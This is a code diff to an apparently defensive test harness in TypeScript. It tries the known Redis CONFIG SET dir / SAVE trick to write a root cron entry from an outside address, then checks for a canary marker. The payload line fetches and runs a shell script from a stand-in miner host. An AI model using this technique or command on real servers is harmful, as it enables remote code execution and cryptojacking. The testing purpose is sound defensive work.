@@ -2,7 +2,7 @@ import { readdir, readFile } from 'node:fs/promises';
 
 import type { Attack } from '../attack.ts';
 import type { Grounds } from '../grounds/grounds.ts';
-import { places } from '../grounds/policy.ts';
+import { fromOutside, ofServer } from './at-server.ts';
 import { encode, send, stopOf } from './raw.ts';
 
 const line = '\n\n* * * * * root curl -s http://miner.invalid/i.sh | sh # rampart-canary\n\n';
@@ -22,29 +22,22 @@ export const cronLine: Attack<Grounds> = {
     {
       name: 'CONFIG SET dir, then SAVE, from a stranger’s address',
       attempt: async ({ store }) => {
-        const strike = { from: places.stranger, host: places.outside, port: store.port };
         const heard = await send(
-          strike,
+          fromOutside(store),
           [
             encode('SET', 'x', line),
-            encode('CONFIG', 'SET', 'dir', store.cron),
+            encode('CONFIG', 'SET', 'dir', store.foreign.cron),
             encode('CONFIG', 'SET', 'dbfilename', 'root'),
             encode('SAVE'),
           ].join(''),
         );
-        return stopOf(
-          heard,
-          [/ECONNREFUSED/, 'server.network'],
-          [/NOAUTH|NOPERM/, 'server.acl'],
-          [/protected config/, 'server.config'],
-          [/Permission denied|-ERR$/m, 'server.os'],
-        );
+        return stopOf(heard, ...ofServer, [/Permission denied|-ERR$/m, 'server.os']);
       },
     },
   ],
   reached: async ({ store }) => {
-    for (const name of await readdir(store.cron)) {
-      const content = await readFile(`${store.cron}/${name}`, 'latin1');
+    for (const name of await readdir(store.foreign.cron)) {
+      const content = await readFile(`${store.foreign.cron}/${name}`, 'latin1');
       if (content.includes('rampart-canary')) return { kind: 'reached', seen: `${name} holds it` };
     }
     return { kind: 'missed' };
